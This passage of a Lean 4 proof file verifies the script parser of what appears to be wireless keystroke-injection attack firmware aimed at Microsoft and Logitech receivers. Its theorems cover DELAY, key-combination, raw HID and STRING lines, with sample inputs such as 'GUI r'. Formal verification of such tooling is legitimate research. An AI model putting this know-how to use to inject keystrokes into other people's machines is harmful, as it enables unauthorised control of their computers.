        split_ifs <;> first | rfl | omega
    · simp only [if_true, Bool.true_eq_false, false_and, if_false]
      split_ifs <;> first | rfl | omega
  refine ⟨hmain, ?_, ?_⟩
  · rw [hmain]
    simp only
    split
    · exact transmitted_emit _ _ (fun f hf => by cases hf)
    · rfl
  · rw [hmain]
    simp only
    split <;> rfl

theorem delay_line_witness :
    ([49, 48] : List Nat) ≠ [] ∧ (∀ d ∈ ([49, 48] : List Nat), 48 ≤ d ∧ d ≤ 57) ∧
    10 = Nat.ofDigits 10 (([49, 48] : List Nat).reverse.map (fun d => d - 48)) ∧
    parseDuckyLine sampleTaskConsts sampleEnv [68, 69, 76, 65, 89, 32, 49, 48] 0 sampleTargets =
      (true, emit (RadioOp.vTaskDelay 10) sampleTargets) ∧
    parseDuckyLine sampleTaskConsts sampleEnv [68, 69, 76, 65, 89, 32, 52, 48, 48, 48, 48] 0
      sampleTargets = (true, sampleTargets) ∧
    parseDuckyLine sampleTaskConsts sampleEnv [68, 69, 76, 65, 89, 32, 48] 0 sampleTargets =
      (true, sampleTargets) ∧
    parseDuckyLine sampleTaskConsts sampleEnv [68, 69, 76, 65, 89, 32, 45, 53] 0 sampleTargets =
      (true, sampleTargets) :=
  ⟨by decide, by decide, by norm_num [Nat.ofDigits],
    (delay_line sampleTaskConsts sampleEnv 0 sampleTargets false [49, 48] 10
      (by decide) (by decide) (by norm_num [Nat.ofDigits])).1,
    by decide, by decide, by decide⟩


theorem indexOf?_eq (ch : Nat) (l : List Nat) :
    List.indexOf? ch l =
      if ch ∈ l then some (l.takeWhile (fun x => x != ch)).length else none := by
  unfold List.indexOf?
  induction l with
  | nil => simp
  | cons a l ih =>
    rw [List.findIdx?_cons]
    by_cases h : a = ch
    · subst h
      simp
    · have h1 : (a == ch) = false := by simpa using h
      have h2 : (a != ch) = true := by simpa using h
      rw [h1, List.findIdx?_succ, ih, List.takeWhile_cons, h2]
      simp only [Bool.false_eq_true, if_false, if_true, List.length_cons, List.mem_cons]
      by_cases hm : ch ∈ l
      · simp [hm]
      · have hne : ¬ ch = a := fun e => h e.symm
        simp [hm, hne]

theorem take_takeWhile_length (p : Nat → Bool) (l : List Nat) :
    l.take (l.takeWhile p).length = l.takeWhile p := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    rw [List.takeWhile_cons]
    split
    · rw [List.length_cons, List.take_succ_cons, ih]
    · rfl

theorem takeWhile_ne_of_not_mem (ch : Nat) (l : List Nat) (h : ch ∉ l) :
    l.takeWhile (fun x => x != ch) = l := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    have h1 : a ≠ ch := fun e => h (by rw [e]; exact List.mem_cons_self _ _)
    have h2 : (a != ch) = true := by simpa using h1
    rw [List.takeWhile_cons, h2, if_pos rfl, ih (fun hm => h (List.mem_cons_of_mem _ hm))]

/-- The first token that `parseDuckyLine` cuts out of a line that does not start with a
space is the text before the first space. -/
theorem firstToken_eq (line : List Nat) (hhead : line.head? ≠ some 32) :
    (if indexOf line 32 > 0 then line.take (indexOf line 32).toNat else line) =
      line.takeWhile (fun x => x != 32) := by
  unfold indexOf
  rw [indexOf?_eq]
  by_cases hm : 32 ∈ line
  · rw [if_pos hm]
    simp only
    cases line with
    | nil => cases hm
    | cons a l =>
      have ha : a ≠ 32 := fun e => hhead (by rw [e]; rfl)
      have h2 : (a != 32) = true := by simpa using ha
      have hpos : ((((a :: l).takeWhile (fun x => x != 32)).length : Nat) : Int) > 0 := by
        rw [List.takeWhile_cons, h2, if_pos rfl, List.length_cons]
        omega
      rw [if_pos hpos, Int.toNat_ofNat, take_takeWhile_length]
  · rw [if_neg hm]
    simp only
    rw [if_neg (by omega), takeWhile_ne_of_not_mem 32 line hm]

theorem secondToken_eq (line : List Nat) (hhead : line.head? ≠ some 32) :
    (if indexOf line 32 > 0 then line.drop ((indexOf line 32).toNat + 1) else []) =
      (line.dropWhile (fun x => x != 32)).drop 1 := by
  unfold indexOf
  rw [indexOf?_eq]
  by_cases hm : 32 ∈ line
  · rw [if_pos hm]
    simp only
    cases line with
    | nil => cases hm
    | cons a l =>
      have ha : a ≠ 32 := fun e => hhead (by rw [e]; rfl)
      have h2 : (a != 32) = true := by simpa using ha
      have hpos : ((((a :: l).takeWhile (fun x => x != 32)).length : Nat) : Int) > 0 := by
        rw [List.takeWhile_cons, h2, if_pos rfl, List.length_cons]
        omega
      rw [if_pos hpos, Int.toNat_ofNat]
      have hd : (a :: l).drop ((a :: l).takeWhile (fun x => x != 32)).length =
          (a :: l).dropWhile (fun x => x != 32) := by
        have h := List.takeWhile_append_dropWhile (fun x => x != 32) (a :: l)
        conv_lhs => arg 2; rw [← h]
        rw [List.drop_left]
      rw [← List.drop_drop, hd]
  · rw [if_neg hm]
    simp only
    rw [if_neg (by omega)]
    have h := takeWhile_ne_of_not_mem 32 line hm
    have h2 := List.takeWhile_append_dropWhile (fun x => x != 32) line
    rw [h] at h2
    have h3 : line.dropWhile (fun x => x != 32) = [] := by
      have := congrArg List.length h2
      rw [List.length_append] at this
      exact List.eq_nil_of_length_eq_zero (by omega)
    rw [h3]
    rfl

/-- A trimmed line that is not empty does not start with white space. -/
theorem trim_head (raw : List Nat) (a : Nat) (t : List Nat) (h : trim raw = a :: t) :
    isSpace a = false := by
  unfold trim at h
  have hpre : ((raw.dropWhile isSpace).reverse.dropWhile isSpace).reverse <+:
      (raw.dropWhile isSpace) := by
    have hs := List.dropWhile_suffix (l := (raw.dropWhile isSpace).reverse) isSpace
    have := List.reverse_prefix.2 hs
    rwa [List.reverse_reverse] at this
  rw [h] at hpre
  obtain ⟨u, hu⟩ := hpre
  have hh := List.head?_dropWhile_not isSpace raw
  rw [← hu] at hh
  exact hh

theorem lookupKey_none (table : List (List Nat × Nat × Nat)) (token : List Nat)
    (h : ∀ row ∈ table, equalsIgnoreCase token row.1 = false) :
    lookupKey table token = none := by
  unfold lookupKey
  rw [List.find?_eq_none]
  intro row hrow
  rw [h row hrow]
  decide

/-- The key-name branch of `parseDuckyLine` (lines 697-757), reached by a line that does
not start with a space and is no comment, `DELAY` or `STRING ` line, in terms of the
text before and after the first space. -/
theorem parseDuckyLine_keyName (c : TaskConsts) (env : AttackEnv) (line : List Nat)
    (targetIndex : Nat) (s : State) (hhead : line.head? ≠ some 32)
    (hrem : [82, 69, 77].isPrefixOf line = false) (hslash : [47, 47].isPrefixOf line = false)
    (hdelay : [68, 69, 76, 65, 89].isPrefixOf line = false)
    (hstring : [83, 84, 82, 73, 78, 71, 32].isPrefixOf line = false) :
    parseDuckyLine c env line targetIndex s =
      match lookupKey c.DUCKY_KEYS (trim (line.takeWhile (fun x => x != 32))) with
      | none => (false, s)
      | some row =>
        (true,
          (fun t => if isMicrosoft (targetAt s targetIndex) then
              msTransmit (targetAt s targetIndex) 0 0 t
            else logTransmit (targetAt s targetIndex) 0 [0] 1 t)
          (emit (RadioOp.vTaskDelay 10)
            (if isMicrosoft (targetAt s targetIndex) then
              msTransmit (targetAt s targetIndex)
                (combineSecond c row.2.1 row.2.2
                  (trim ((line.dropWhile (fun x => x != 32)).drop 1))).1
                (combineSecond c row.2.1 row.2.2
                  (trim ((line.dropWhile (fun x => x != 32)).drop 1))).2 s
            else logTransmit (targetAt s targetIndex)
                (combineSecond c row.2.1 row.2.2
                  (trim ((line.dropWhile (fun x => x != 32)).drop 1))).1
                [(combineSecond c row.2.1 row.2.2
                  (trim ((line.dropWhile (fun x => x != 32)).drop 1))).2] 1 s))) := by
  unfold parseDuckyLine
  simp only [hrem, hslash, hdelay, hstring, Bool.or_self, Bool.false_eq_true, if_false]
  rw [firstToken_eq line hhead, secondToken_eq line hhead]

/-- C30. For every script line whose trimmed text is not empty, is not a `REM` or `//`
comment, a `DELAY` line or a `STRING ` line, and whose first token (the text before the
first space) equals no key name of the table when case is ignored, `parseDuckyLine`
returns false and leaves the whole state as it was (no frame, no delay, sequence counter
unchanged), and the script loop goes on with the next line. -/
theorem unknown_key_line (c : TaskConsts) (env : AttackEnv) (targetIndex : Nat) (s : State)
    (raw : List Nat) (rest : List (List Nat))
    (hne : trim raw ≠ [])
    (hrem : [82, 69, 77].isPrefixOf (trim raw) = false)
    (hslash : [47, 47].isPrefixOf (trim raw) = false)
    (hdelay : [68, 69, 76, 65, 89].isPrefixOf (trim raw) = false)
    (hstring : [83, 84, 82, 73, 78, 71, 32].isPrefixOf (trim raw) = false)
    (hkey : ∀ row ∈ c.DUCKY_KEYS,
      equalsIgnoreCase (trim ((trim raw).takeWhile (fun x => x != 32))) row.1 = false) :
    parseDuckyLine c env (trim raw) targetIndex s = (false, s) ∧
    ((readStop env s).1 = false →
      duckyLoop c env targetIndex (raw :: rest) s =
        duckyLoop c env targetIndex rest (readStop env s).2) := by
  have hhead : (trim raw).head? ≠ some 32 := by
    obtain ⟨a, t, hat⟩ := List.exists_cons_of_ne_nil hne
    have ha := trim_head raw a t hat
    rw [hat]
    intro h
    injection h with h
    rw [h] at ha
    exact absurd ha (by decide)
  have hparse : ∀ t : State, parseDuckyLine c env (trim raw) targetIndex t = (false, t) := by
    intro t
    rw [parseDuckyLine_keyName c env (trim raw) targetIndex t hhead hrem hslash hdelay hstring,
      lookupKey_none _ _ hkey]
  refine ⟨hparse s, ?_⟩
  intro hstop
  rw [duckyLoop, if_neg (by rw [hstop]; decide)]
  simp only
  rw [if_pos (List.length_pos.2 hne), hparse]

theorem unknown_key_line_witness :
    trim [32, 70, 79, 79, 32, 120] ≠ [] ∧
    (∀ row ∈ sampleTaskConsts.DUCKY_KEYS,
      equalsIgnoreCase (trim ((trim [32, 70, 79, 79, 32, 120]).takeWhile (fun x => x != 32)))
        row.1 = false) ∧
    parseDuckyLine sampleTaskConsts sampleEnv (trim [32, 70, 79, 79, 32, 120]) 0 sampleTargets =
      (false, sampleTargets) ∧
    ((readStop sampleEnv sampleTargets).1 = false →
      duckyLoop sampleTaskConsts sampleEnv 0 [[32, 70, 79, 79, 32, 120], [71, 85, 73]]
        sampleTargets =
        duckyLoop sampleTaskConsts sampleEnv 0 [[71, 85, 73]]
          (readStop sampleEnv sampleTargets).2) :=
  ⟨by decide, by decide,
    unknown_key_line sampleTaskConsts sampleEnv 0 sampleTargets [32, 70, 79, 79, 32, 120]
      [[71, 85, 73]] (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)⟩

theorem takeWhile_ne_append (ch : Nat) (name rest : List Nat) (h : ch ∉ name) :
    (name ++ ch :: rest).takeWhile (fun x => x != ch) = name ∧
    (name ++ ch :: rest).dropWhile (fun x => x != ch) = ch :: rest := by
  induction name with
  | nil => simp
  | cons a l ih =>
    have h1 : a ≠ ch := fun e => h (by rw [e]; exact List.mem_cons_self _ _)
    have h2 : (a != ch) = true := by simpa using h1
    have ih2 := ih (fun hm => h (List.mem_cons_of_mem _ hm))
    rw [List.cons_append, List.takeWhile_cons, List.dropWhile_cons, h2, if_pos rfl, if_pos rfl,
      ih2.1, ih2.2]
    exact ⟨rfl, rfl⟩

theorem or_byte (a b : Nat) (ha : a < 256) (hb : b < 256) : (a ||| b) % 256 = a ||| b :=
  Nat.mod_eq_of_lt (Nat.or_lt_two_pow (n := 8) ha hb)

/-- The modifier and keycode that `combineSecond` gives, case by case. -/
theorem combineSecond_cases (c : TaskConsts) (m1 k1 : Nat) (second : List Nat)
    (hm1 : m1 < 256)
    (hmods : ∀ r ∈ c.DUCKY_KEYS, r.2.1 < 256)
    (hascii : ∀ ch e, c.asciiToHid ch = some e → e.modifier < 256) :
    (∀ e, second.length = 1 → c.asciiToHid (second.getD 0 0) = some e →
      (combineSecond c m1 k1 second).1 = m1 ||| e.modifier ∧
      (combineSecond c m1 k1 second).2 = e.keycode) ∧
    (∀ key2 m2 k2, second.length > 1 → lookupKey c.DUCKY_KEYS second = some (key2, m2, k2) →
      (combineSecond c m1 k1 second).1 = m1 ||| m2 ∧
      (combineSecond c m1 k1 second).2 = if k2 ≠ 0 then k2 else k1) ∧
    ((second.length = 1 ∧ c.asciiToHid (second.getD 0 0) = none) ∨
      (second.length > 1 ∧ lookupKey c.DUCKY_KEYS second = none) ∨ second = [] →
      (combineSecond c m1 k1 second).1 = m1 ∧ (combineSecond c m1 k1 second).2 = k1) := by
  refine ⟨?_, ?_, ?_⟩
  · intro e hlen he
    unfold combineSecond
    rw [if_pos hlen, he]
    exact ⟨or_byte _ _ hm1 (hascii _ _ he), rfl⟩
  · intro key2 m2 k2 hlen hrow
    have hmem : (key2, m2, k2) ∈ c.DUCKY_KEYS := by
      unfold lookupKey at hrow
      exact List.mem_of_find?_eq_some hrow
    unfold combineSecond
    rw [if_neg (by omega), if_pos hlen, hrow]
    exact ⟨or_byte _ _ hm1 (hmods _ hmem), rfl⟩
  · rintro (⟨hlen, he⟩ | ⟨hlen, hrow⟩ | hnil)
    · unfold combineSecond
      rw [if_pos hlen, he]
      exact ⟨rfl, rfl⟩
    · unfold combineSecond
      rw [if_neg (by omega), if_pos hlen, hrow]
      exact ⟨rfl, rfl⟩
    · unfold combineSecond
      rw [hnil]
      exact ⟨rfl, rfl⟩

/-- C26. For every script line `<name> <second>` (no space inside `<name>`) that is no
comment, `DELAY` or `STRING ` line and whose first token equals, case ignored, the name
of a key-table row with modifier `m1` and keycode `k1`, `parseDuckyLine` returns true
after sending the keystroke `(m, k)`, a delay of 10 ms and the release `(0, 0)`, where:
if the trimmed `<second>` is one character that the ASCII table maps to `e`, then
`m = m1 | e.modifier` and `k = e.keycode`; if it is longer and equals a key name with
`(m2, k2)`, then `m = m1 | m2` and `k = k2` when `k2 ≠ 0`, else `k1`; in every other
case `(m, k) = (m1, k1)`. -/
theorem key_combination_line (c : TaskConsts) (env : AttackEnv) (targetIndex : Nat) (s : State)
    (name rest key : List Nat) (m1 k1 : Nat)
    (hname : name ≠ []) (hsp : 32 ∉ name)
    (hrem : [82, 69, 77].isPrefixOf (name ++ 32 :: rest) = false)
    (hslash : [47, 47].isPrefixOf (name ++ 32 :: rest) = false)
    (hdelay : [68, 69, 76, 65, 89].isPrefixOf (name ++ 32 :: rest) = false)
    (hstring : [83, 84, 82, 73, 78, 71, 32].isPrefixOf (name ++ 32 :: rest) = false)
    (hrow : lookupKey c.DUCKY_KEYS (trim name) = some (key, m1, k1))
    (hmods : ∀ r ∈ c.DUCKY_KEYS, r.2.1 < 256)
    (hascii : ∀ ch e, c.asciiToHid ch = some e → e.modifier < 256) :
    ∃ m k : Nat,
      parseDuckyLine c env (name ++ 32 :: rest) targetIndex s =
        (true,
          (fun t => if isMicrosoft (targetAt s targetIndex) then
              msTransmit (targetAt s targetIndex) 0 0 t
            else logTransmit (targetAt s targetIndex) 0 [0] 1 t)
          (emit (RadioOp.vTaskDelay 10)
            (if isMicrosoft (targetAt s targetIndex) then
              msTransmit (targetAt s targetIndex) m k s
            else logTransmit (targetAt s targetIndex) m [k] 1 s))) ∧
      (∀ e, (trim rest).length = 1 → c.asciiToHid ((trim rest).getD 0 0) = some e →
        m = m1 ||| e.modifier ∧ k = e.keycode) ∧
      (∀ key2 m2 k2, (trim rest).length > 1 →
        lookupKey c.DUCKY_KEYS (trim rest) = some (key2, m2, k2) →
        m = m1 ||| m2 ∧ k = if k2 ≠ 0 then k2 else k1) ∧
      ((((trim rest).length = 1 ∧ c.asciiToHid ((trim rest).getD 0 0) = none) ∨
        ((trim rest).length > 1 ∧ lookupKey c.DUCKY_KEYS (trim rest) = none) ∨
        trim rest = []) → m = m1 ∧ k = k1) := by
  have hhead : (name ++ 32 :: rest).head? ≠ some 32 := by
    obtain ⟨a, t, rfl⟩ := List.exists_cons_of_ne_nil hname
    intro h
    injection h with h
    exact hsp (by rw [h]; exact List.mem_cons_self _ _)
  have hm1 : m1 < 256 := by
    have hmem : (key, m1, k1) ∈ c.DUCKY_KEYS := by
      unfold lookupKey at hrow
      exact List.mem_of_find?_eq_some hrow
    exact hmods _ hmem
  have htok := takeWhile_ne_append 32 name rest hsp
  have hparse := parseDuckyLine_keyName c env (name ++ 32 :: rest) targetIndex s hhead hrem
    hslash hdelay hstring
  rw [htok.1, htok.2, hrow] at hparse
  have hdrop : (32 :: rest).drop 1 = rest := rfl
  rw [hdrop] at hparse
  exact ⟨(combineSecond c m1 k1 (trim rest)).1, (combineSecond c m1 k1 (trim rest)).2, hparse,
    combineSecond_cases c m1 k1 (trim rest) hm1 hmods hascii⟩

theorem key_combination_line_witness :
    ([71, 85, 73] : List Nat) ≠ [] ∧ 32 ∉ ([71, 85, 73] : List Nat) ∧
    lookupKey sampleTaskConsts.DUCKY_KEYS (trim [71, 85, 73]) = some ([71, 85, 73], 8, 0) ∧
    sampleTaskConsts.asciiToHid 114 = some ⟨0, 21⟩ ∧
    (transmitted (parseDuckyLine sampleTaskConsts sampleEnv [71, 85, 73, 32, 114] 0
      sampleTargets).2.radio).head? = some (msKeyDown (targetAt sampleTargets 0) 8 21 0) ∧
    ∃ m k : Nat,
      parseDuckyLine sampleTaskConsts sampleEnv ([71, 85, 73] ++ 32 :: [114]) 0 sampleTargets =
        (true,
          (fun t => if isMicrosoft (targetAt sampleTargets 0) then
              msTransmit (targetAt sampleTargets 0) 0 0 t
            else logTransmit (targetAt sampleTargets 0) 0 [0] 1 t)
          (emit (RadioOp.vTaskDelay 10)
            (if isMicrosoft (targetAt sampleTargets 0) then
              msTransmit (targetAt sampleTargets 0) m k sampleTargets
            else logTransmit (targetAt sampleTargets 0) m [k] 1 sampleTargets))) ∧
      (∀ e, (trim [114]).length = 1 →
        sampleTaskConsts.asciiToHid ((trim [114]).getD 0 0) = some e →
        m = 8 ||| e.modifier ∧ k = e.keycode) ∧
      (∀ key2 m2 k2, (trim [114]).length > 1 →
        lookupKey sampleTaskConsts.DUCKY_KEYS (trim [114]) = some (key2, m2, k2) →
        m = 8 ||| m2 ∧ k = if k2 ≠ 0 then k2 else 0) ∧
      ((((trim [114]).length = 1 ∧
          sampleTaskConsts.asciiToHid ((trim [114]).getD 0 0) = none) ∨
        ((trim [114]).length > 1 ∧
          lookupKey sampleTaskConsts.DUCKY_KEYS (trim [114]) = none) ∨
        trim [114] = []) → m = 8 ∧ k = 0) :=
  ⟨by decide, by decide, by decide, by decide, by decide,
    key_combination_line sampleTaskConsts sampleEnv 0 sampleTargets [71, 85, 73] [114]
      [71, 85, 73] 8 0 (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)
      (by decide) (by decide)
      (by
        intro ch e h
        unfold sampleTaskConsts at h
        simp only at h
        split at h
        · injection h with h; rw [← h]; decide
        · split at h
          · injection h with h; rw [← h]; decide
          · cases h)⟩

/-! ## The keystrokes of the raw and string loops -/

theorem rawKey_ghost (target : MjTarget) (s : State) (b : Bool) (r : Nat) (p : Nat × Nat) :
    rawKey target { s with stopRequest_ := b, stopReads := r } p =
      { rawKey target s p with stopRequest_ := b, stopReads := r } := by
  unfold rawKey
  simp only
  split
  · rfl
  · split <;> rfl

theorem rawKey_foldl_ghost (target : MjTarget) (l : List (Nat × Nat)) :
    ∀ (s : State) (b : Bool) (r : Nat),
      l.foldl (rawKey target) { s with stopRequest_ := b, stopReads := r } =
        { l.foldl (rawKey target) s with stopRequest_ := b, stopReads := r } := by
  induction l with
  | nil => intro s b r; rfl
  | cons p l ih =>
    intro s b r
    rw [List.foldl_cons, List.foldl_cons, rawKey_ghost, ih]

theorem readStop_quiet (env : AttackEnv) (s : State) (h0 : s.stopRequest_ = false)
    (hq : ∀ n, env.stopAt n = false) :
    (readStop env s).1 = false ∧
    (readStop env s).2 = { s with stopRequest_ := false, stopReads := s.stopReads + 1 } := by
  unfold readStop
  rw [h0, hq]
  exact ⟨rfl, rfl⟩

theorem ghost_self (s : State) (h0 : s.stopRequest_ = false) :
    { s with stopRequest_ := false, stopReads := s.stopReads + 0 } = s := by
  cases s
  simp only at h0
  subst h0
  rfl

theorem rawKey_stop (target : MjTarget) (s : State) (p : Nat × Nat) :
    (rawKey target s p).stopRequest_ = s.stopRequest_ ∧
    (rawKey target s p).stopReads = s.stopReads := by
  unfold rawKey
  simp only
  split
  · exact ⟨rfl, rfl⟩
  · split <;> exact ⟨rfl, rfl⟩

theorem range_pairs_succ (payload : List Nat) (i k : Nat) :
    (List.range (k + 1)).map
        (fun j => (payload.getD (i + 2 * j) 0, payload.getD (i + 2 * j + 1) 0)) =
      (payload.getD i 0, payload.getD (i + 1) 0) ::
        (List.range k).map
          (fun j => (payload.getD (i + 2 + 2 * j) 0, payload.getD (i + 2 + 2 * j + 1) 0)) := by
  rw [List.range_succ_eq_map, List.map_cons, List.map_map]
  congr 1
  apply List.map_congr_left
  intro j _
  show (payload.getD (i + 2 * (j + 1)) 0, payload.getD (i + 2 * (j + 1) + 1) 0) = _
  have e : i + 2 * (j + 1) = i + 2 + 2 * j := by omega
  rw [e]

/-- The `RAW_HID` loop when nobody asks to stop: one keystroke per pair. -/
theorem rawLoop_quiet (env : AttackEnv) (target : MjTarget) (payload : List Nat) (len : Nat)
    (hq : ∀ n, env.stopAt n = false) :
    ∀ (fuel i : Nat) (s : State), s.stopRequest_ = false → (len - i) / 2 ≤ fuel →
      rawLoop env target payload len fuel i s =
        { ((List.range ((len - i) / 2)).map
            (fun j => (payload.getD (i + 2 * j) 0, payload.getD (i + 2 * j + 1) 0))).foldl
            (rawKey target) s with
          stopRequest_ := false, stopReads := s.stopReads + (len - i) / 2 } := by
  intro fuel
  induction fuel with
  | zero =>
    intro i s h0 hf
    have hk : (len - i) / 2 = 0 := by omega
    rw [hk, rawLoop]
    exact (ghost_self s h0).symm
  | succ fuel ih =>
    intro i s h0 hf
    rw [rawLoop]
    by_cases hi : i + 1 < len
    · rw [if_pos hi]
      obtain ⟨hr1, hr2⟩ := readStop_quiet env s h0 hq
      rw [hr1, hr2]
      simp only [Bool.false_eq_true, if_false]
      have hk : (len - i) / 2 = (len - (i + 2)) / 2 + 1 := by omega
      have hbody : (emit (RadioOp.vTaskDelay 10)
          (if isMicrosoft target = true then
            msTransmit target (payload.getD i 0) (payload.getD (i + 1) 0)
              { s with stopRequest_ := false, stopReads := s.stopReads + 1 }
          else if target.type = MjDeviceType.MJ_DEVICE_LOGITECH then
            logTransmit target (payload.getD i 0) [payload.getD (i + 1) 0] 1
              { s with stopRequest_ := false, stopReads := s.stopReads + 1 }
          else { s with stopRequest_ := false, stopReads := s.stopReads + 1 })) =
          rawKey target { s with stopRequest_ := false, stopReads := s.stopReads + 1 }
            (payload.getD i 0, payload.getD (i + 1) 0) := rfl
      rw [hbody, rawKey_ghost]
      rw [ih (i + 2) _ rfl (by omega), hk, range_pairs_succ, List.foldl_cons,
        rawKey_foldl_ghost]
      simp only
      congr 1
      omega
    · rw [if_neg hi]
      have hk : (len - i) / 2 = 0 := by omega
      rw [hk]
      exact (ghost_self s h0).symm


theorem msTransmit_ghost (target : MjTarget) (m h : Nat) (s : State) (b : Bool) (r : Nat) :
    msTransmit target m h { s with stopRequest_ := b, stopReads := r } =
      { msTransmit target m h s with stopRequest_ := b, stopReads := r } := rfl

theorem logTransmit_ghost (target : MjTarget) (m : Nat) (keys : List Nat) (n : Nat) (s : State)
    (b : Bool) (r : Nat) :
    logTransmit target m keys n { s with stopRequest_ := b, stopReads := r } =
      { logTransmit target m keys n s with stopRequest_ := b, stopReads := r } := rfl

theorem emit_ghost (op : RadioOp) (s : State) (b : Bool) (r : Nat) :
    emit op { s with stopRequest_ := b, stopReads := r } =
      { emit op s with stopRequest_ := b, stopReads := r } := rfl

theorem stringKey_ghost (target : MjTarget) (s : State) (b : Bool) (r : Nat) (e : HidKeyEntry) :
    stringKey target { s with stopRequest_ := b, stopReads := r } e =
      { stringKey target s e with stopRequest_ := b, stopReads := r } := by
  unfold stringKey
  simp only
  by_cases hms : isMicrosoft target = true
  · simp only [hms, if_true]
    rw [msTransmit_ghost target e.modifier e.keycode s b r,
      msTransmit_ghost target 0 0 (msTransmit target e.modifier e.keycode s) b r,
      emit_ghost _ (msTransmit target 0 0 (msTransmit target e.modifier e.keycode s)) b r]
  · by_cases hlog : target.type = MjDeviceType.MJ_DEVICE_LOGITECH
    · simp only [hms, hlog, Bool.false_eq_true, if_false, if_true]
      rw [logTransmit_ghost target e.modifier [e.keycode] 1 s b r,
        logTransmit_ghost target 0 [0] 1 (logTransmit target e.modifier [e.keycode] 1 s) b r,
        emit_ghost _ (logTransmit target 0 [0] 1
          (logTransmit target e.modifier [e.keycode] 1 s)) b r]
    · simp only [hms, hlog, Bool.false_eq_true, if_false]
      rw [logTransmit_ghost target 0 [0] 1 s b r,
        emit_ghost _ (logTransmit target 0 [0] 1 s) b r]

theorem stringKey_foldl_ghost (target : MjTarget) (l : List HidKeyEntry) :
    ∀ (s : State) (b : Bool) (r : Nat),
      l.foldl (stringKey target) { s with stopRequest_ := b, stopReads := r } =
        { l.foldl (stringKey target) s with stopRequest_ := b, stopReads := r } := by
  induction l with
  | nil => intro s b r; rfl
  | cons p l ih =>
    intro s b r
    rw [List.foldl_cons, List.foldl_cons, stringKey_ghost, ih]

theorem stringLoop_skip (c : TaskConsts) (env : AttackEnv) (target : MjTarget) (ch : Nat)
    (rest : List Nat) (s : State) (hread : ¬ (readStop env s).1 = true)
    (hent : (if ch = 10 then
        some ({ modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER } : HidKeyEntry)
      else c.asciiToHid ch) = none) :
    stringLoop c env target (ch :: rest) s = stringLoop c env target rest (readStop env s).2 := by
  rw [stringLoop, if_neg hread]
  simp only
  rw [hent]

theorem stringLoop_key (c : TaskConsts) (env : AttackEnv) (target : MjTarget) (ch : Nat)
    (rest : List Nat) (s : State) (e : HidKeyEntry) (hread : ¬ (readStop env s).1 = true)
    (hent : (if ch = 10 then
        some ({ modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER } : HidKeyEntry)
      else c.asciiToHid ch) = some e) :
    stringLoop c env target (ch :: rest) s =
      stringLoop c env target rest (stringKey target (readStop env s).2 e) := by
  rw [stringLoop, if_neg hread]
  simp only
  rw [hent]
  rfl

/-- The `STRING` loop: the characters read before the stop flag is seen are typed in
order, those without an entry are skipped. -/
theorem stringLoop_prefix (c : TaskConsts) (env : AttackEnv) (target : MjTarget) :
    ∀ (text : List Nat) (s : State), ∃ n : Nat, n ≤ text.length ∧
      stringLoop c env target text s =
        { ((text.take n).filterMap (fun ch =>
            if ch = 10 then some { modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER }
            else c.asciiToHid ch)).foldl (stringKey target) s with
          stopRequest_ := s.stopRequest_ || decide (n < text.length),
          stopReads := s.stopReads + min (n + 1) text.length } ∧
      (s.stopRequest_ = false → (∀ i, env.stopAt i = false) → n = text.length) := by
  intro text
  induction text with
  | nil =>
    intro s
    refine ⟨0, Nat.le_refl _, ?_, fun _ _ => rfl⟩
    rw [stringLoop]
    simp
  | cons ch rest ih =>
    intro s
    by_cases hread : (readStop env s).1 = true
    · refine ⟨0, Nat.zero_le _, ?_, ?_⟩
      · rw [stringLoop, if_pos hread]
        have h1 : (s.stopRequest_ || env.stopAt s.stopReads) = true := hread
        unfold readStop
        simp [h1]
      · intro h0 hq
        have h1 : (s.stopRequest_ || env.stopAt s.stopReads) = true := hread
        rw [h0, hq] at h1
        cases h1
    · have h1 : (s.stopRequest_ || env.stopAt s.stopReads) = false := by
        have : (readStop env s).1 = (s.stopRequest_ || env.stopAt s.stopReads) := rfl
        rw [this] at hread
        simpa using hread
      have h0 : s.stopRequest_ = false := by
        cases hs : s.stopRequest_
        · rfl
        · rw [hs] at h1; cases h1
      have hs2 : (readStop env s).2 =
          { s with stopRequest_ := false, stopReads := s.stopReads + 1 } := by
        unfold readStop
        rw [h1]
      cases hent : (if ch = 10 then
          some ({ modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER } : HidKeyEntry)
        else c.asciiToHid ch) with
      | none =>
        obtain ⟨n, hn, heq, hall⟩ :=
          ih { s with stopRequest_ := false, stopReads := s.stopReads + 1 }
        refine ⟨n + 1, by simp only [List.length_cons]; omega, ?_, ?_⟩
        · rw [stringLoop_skip c env target ch rest s hread hent, hs2, heq, List.take_succ_cons,
            List.filterMap_cons, hent, stringKey_foldl_ghost, h0]
          simp only [List.length_cons, Bool.false_or, Nat.add_lt_add_iff_right]
          congr 1
          rw [Nat.add_min_add_right]
          omega
        · intro _ hq
          rw [hall rfl hq]
          rfl
      | some e =>
        obtain ⟨n, hn, heq, hall⟩ :=
          ih { stringKey target s e with stopRequest_ := false, stopReads := s.stopReads + 1 }
        refine ⟨n + 1, by simp only [List.length_cons]; omega, ?_, ?_⟩
        · rw [stringLoop_key c env target ch rest s e hread hent, hs2,
            stringKey_ghost target s false (s.stopReads + 1) e, heq, List.take_succ_cons,
            List.filterMap_cons, hent, List.foldl_cons,
            stringKey_foldl_ghost target _ (stringKey target s e) false (s.stopReads + 1), h0]
          simp only [List.length_cons, Bool.false_or, Nat.add_lt_add_iff_right]
          congr 1
          rw [Nat.add_min_add_right]
          omega
        · intro _ hq
          rw [hall rfl hq]
          rfl

/-- C28. In an ASCII-string attack, for every text and every table `asciiToHid`, the
keystrokes sent are those of the characters read before the stop flag is seen, in order:
a character the table does not map is skipped (no frame, no delay, no change of the
sequence counter), every other character is typed with its table entry, and a newline is
always typed as `(HID_MOD_NONE, HID_KEY_ENTER)`. When nobody asks to stop, that is the
whole text. -/
theorem string_keystrokes (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (target : MjTarget) (s : State) (hmode : params.mode = AttackMode.STRING) :
    (∃ n : Nat, n ≤ params.text.length ∧
      attackBody c env params target s =
        { ((params.text.take n).filterMap (fun ch =>
            if ch = 10 then some { modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER }
            else c.asciiToHid ch)).foldl (stringKey target) s with
